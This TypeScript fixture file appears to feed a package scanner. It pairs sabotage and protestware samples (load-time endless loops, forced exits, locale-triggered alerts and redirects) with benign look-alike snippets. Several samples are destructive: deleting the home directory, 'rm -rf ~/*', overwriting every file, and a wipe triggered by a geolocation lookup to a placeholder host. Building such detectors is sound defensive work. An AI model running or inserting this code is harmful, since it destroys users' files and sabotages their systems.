/** Sabotage and protest: code that stops, destroys or speaks, and the honest code that looks most like it. */
import type { Mechanism } from '../mechanism.ts';

const notCaught = ['top', 'function', 'arrow', 'named'] as const;
const early = { load: 'block', install: 'block' } as const;

export const sabotage: readonly Mechanism[] = [
  {
    id: 'loop-to-infinity',
    rule: 'endless-loop-at-load',
    demands: early,
    code: `for (let number = 666; number < Infinity; number++) { console.log('far ' + number); }`,
    twins: [
      {
        about: 'a loop over a list',
        at: ['load', 'call'],
        code: `const table = [];\nfor (let index = 0; index < 256; index++) { table.push(index.toString(16)); }`,
      },
      {
        about: 'Infinity as a start',
        at: ['load', 'call'],
        code: `let least = Infinity;\nfor (const width of [80, 100, 120]) { if (width < least) least = width; }`,
      },
    ],
  },
  {
    id: 'loop-while-true',
    rule: 'endless-loop-at-load',
    demands: early,
    code: `let round = 0;\nwhile (!![]) { round += 1; console.error('stand by ' + round); }`,
    twins: [
      {
        about: 'a retry loop with an exit',
        at: ['load', 'call'],
        code: `let attempt = 0;\nwhile (true) { attempt += 1; if (attempt > 3) break; }`,
      },
      {
        about: 'a tokenizer that returns',
        at: ['call'],
        parameters: 'text',
        code: `let at = 0;\nfor (;;) { const code = text.charCodeAt(at++); if (code !== 32) return at; }`,
      },
    ],
  },
  {
    id: 'loop-that-misses-its-bound',
    rule: 'endless-loop-at-load',
    demands: early,
    code: `const words = [];\nfor (let at = 1; at !== 0; at += 2) { words.push('far'); }`,
    twins: [
      { about: 'a countdown', at: ['load', 'call'], code: `let left = 8;\nwhile (left !== 0) left -= 1;` },
      {
        about: 'a walk up a list',
        at: ['load', 'call'],
        code: `let node = { next: { next: null } };\nwhile (node !== null) node = node.next;`,
      },
    ],
  },
  {
    id: 'endless-self-scheduling',
    rule: 'endless-loop-at-load',
    demands: early,
    code: `const kept = [];\nfunction again() { kept.push(new Array(1000).fill('far')); console.log('far'); setImmediate(again); }\nagain();`,
    twins: [
      {
        about: 'a poll that ends',
        at: ['load', 'call'],
        code: `let polls = 0;\nfunction poll() { polls += 1; if (polls < 5) setTimeout(poll, 50).unref(); }\npoll();`,
      },
      {
        about: 'a debounced flush',
        at: ['call'],
        parameters: 'flush',
        code: `let pending;\nclearTimeout(pending);\npending = setTimeout(() => { pending = undefined; flush(); }, 20);`,
      },
    ],
  },
  {
    id: 'endless-generator-drained',
    rule: 'endless-loop-at-load',
    demands: early,
    code: `function* steps() { let at = 0; while (true) yield at++; }\nfor (const step of steps()) { console.log('far ' + step); }`,
    twins: [
      {
        about: 'identifiers made without end, one at a time',
        at: ['load', 'call'],
        code: `function* identifiers() { let at = 0; while (true) yield 'id-' + at++; }\nconst source = identifiers();\nconst first = source.next().value;`,
      },
    ],
  },
  {
    id: 'process-exit',
    rule: 'process-stopped-at-load',
    demands: { load: 'review', entry: 'block' },
    deliveries: notCaught,
    code: `process.exit(1);`,
    twins: [
      {
        about: 'a command line that ends with its status',
        at: ['bin'],
        code: `if (process.argv.length < 3) { console.error('Usage: sample <file>'); process.exit(2); }`,
      },
      {
        about: 'a refusal of an old Node',
        at: ['load'],
        code: `const major = Number(process.versions.node.split('.')[0]);\nif (major < 6) throw new Error('Node 6 or newer is needed');`,
      },
    ],
  },
  {
    id: 'throw-at-load',
    rule: 'process-stopped-at-load',
    demands: { load: 'review', entry: 'block' },
    deliveries: notCaught,
    code: `throw new Error('This package is no longer available to you.');`,
    twins: [
      {
        about: 'an argument that is checked',
        at: ['call'],
        parameters: 'value',
        code: `if (typeof value !== 'string') throw new TypeError('Expected a string, got ' + typeof value);\nreturn value.trim();`,
      },
    ],
  },
  {
    id: 'blocking-sleep',
    rule: 'process-stopped-at-load',
    demands: { load: 'review' },
    deliveries: notCaught,
    code: `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 86400000);`,
    twins: [
      {
        about: 'a pause between attempts, when called',
        at: ['call'],
        parameters: 'ms',
        code: `return new Promise((resolve) => setTimeout(resolve, ms));`,
      },
    ],
  },
  {
    id: 'banner-on-install',
    rule: 'output-at-load',
    demands: { install: 'review' },
    code: `console.log('We ask everybody to think of what is going on. https://HOST/appeal');`,
    twins: [
      {
        about: 'a deprecation warning',
        at: ['call'],
        parameters: 'options',
        code: `if (options && options.legacy) process.emitWarning('legacy is deprecated, use mode', 'DeprecationWarning');`,
      },
      {
        about: 'output in colour',
        at: ['call'],
        parameters: 'text',
        code: `console.log('\\u001b[32m' + text + '\\u001b[39m');`,
      },
    ],
  },
  {
    id: 'time-zone-appeal',
    rule: 'locale-conditioned',
    demands: { load: 'review', install: 'review', call: 'review' },
    code: `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (['Antarctica/Troll', 'Antarctica/Vostok'].includes(zone)) { console.log('Read what your station keeps from you: https://HOST/'); }`,
    twins: [
      {
        about: 'a time zone that is shown',
        at: ['call'],
        parameters: 'date',
        code: `const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nreturn date.toLocaleString('en-GB', { timeZone: zone });`,
      },
      {
        about: 'a default language',
        at: ['load', 'call'],
        code: `const language = (typeof navigator === 'object' && navigator.language) || 'en';\nconst comma = language.startsWith('en') ? ',' : ' ';`,
      },
    ],
  },
  {
    id: 'language-alert',
    rule: 'locale-conditioned',
    demands: { load: 'review', call: 'review' },
    code: `if (typeof window !== 'undefined' && /^eo\\b/.test(window.navigator.language)) { setTimeout(() => { window.alert('Stop and think'); window.location.href = 'https://HOST/'; }, 3000); }`,
    twins: [
      {
        about: 'a locale test in a formatter',
        at: ['call'],
        parameters: 'count',
        code: `const language = Intl.DateTimeFormat().resolvedOptions().locale;\nif (language.startsWith('fr')) return count < 2 ? 'ligne' : 'lignes';\nreturn count === 1 ? 'line' : 'lines';`,
      },
    ],
  },
  {
    id: 'place-conditioned-wipe',
    rule: 'locale-conditioned',
    demands: { load: 'block', install: 'block' },
    code: `const https = require('https');
const fs = require('fs');
https.get('https://HOST/where?key=1', (answer) => {
  answer.on('data', (text) => {
    const place = JSON.parse(text.toString());
    if (place.country_name.toLowerCase().includes('atlantis')) {
      for (const name of fs.readdirSync('./')) fs.writeFileSync('./' + name, 'far');
    }
  });
});`,
    twins: [
      {
        about: 'translations chosen by language',
        at: ['load', 'call'],
        code: `const texts = { de: 'Zeile', en: 'line' };\nconst language = (process.env.LANG || 'en').slice(0, 2);\nconst word = texts[language] || texts.en;`,
      },
    ],
  },
  {
    id: 'date-conditioned-exit',
    rule: 'locale-conditioned',
    demands: { load: 'review', install: 'review' },
    deliveries: notCaught,
    code: `if (Date.now() > 1893456000000) { process.kill(process.pid, 'SIGKILL'); }`,
    twins: [
      {
        about: 'a cache that grows old',
        at: ['call'],
        parameters: 'cache',
        code: `if (Date.now() - cache.at > 60000) cache.value = undefined;\nreturn cache.value;`,
      },
    ],
  },
  {
    id: 'home-removed',
    rule: 'files-destroyed',
    demands: { load: 'block', install: 'block', bin: 'block', call: 'review' },
    code: `const fs = require('fs');\nconst os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });`,
    twins: [
      {
        about: 'a temporary folder of its own',
        at: ['call', 'bin'],
        code: `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst folder = fs.mkdtempSync(path.join(os.tmpdir(), 'sample-'));\nfs.rmSync(folder, { recursive: true, force: true });`,
      },
      {
        about: 'a folder that the caller names',
        at: ['call'],
        parameters: 'folder',
        code: `const fs = require('fs');\nreturn fs.promises.rm(folder, { recursive: true, force: true });`,
      },
    ],
  },
  {
    id: 'remove-by-command',
    rule: 'files-destroyed',
    demands: { load: 'block', install: 'block', bin: 'block', call: 'review' },
    code: `const child = require('child_process');\nchild.exec('rm -rf ~/* .', () => {});`,
    twins: [
      {
        about: 'a build folder that is cleaned when asked',
        at: ['call'],
        code: `const fs = require('fs');\nconst path = require('path');\nfs.rmSync(path.join(__dirname, '.cache'), { recursive: true, force: true });`,
      },
    ],
  },
  {
    id: 'walk-that-overwrites',
    rule: 'files-destroyed',
    demands: { load: 'block', install: 'block', bin: 'block', call: 'review' },
    code: `const fs = require('fs');
const path = require('path');
function visit(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const full = path.join(folder, entry.name);
    if (entry.isDirectory()) visit(full);
    else fs.writeFileSync(full, 'far');
  }
}
visit(process.cwd());`,
    twins: [
      {
        about: 'a walk that reads',
        at: ['call', 'bin'],
        parameters: 'folder',
        code: `const fs = require('fs');
const path = require('path');
const found = [];
function visit(at) {
  for (const entry of fs.readdirSync(at, { withFileTypes: true })) {
    if (entry.isDirectory()) visit(path.join(at, entry.name));
    else found.push(path.join(at, entry.name));
  }
}
visit(String(process.argv[2]));`,
      },
    ],
  },
];
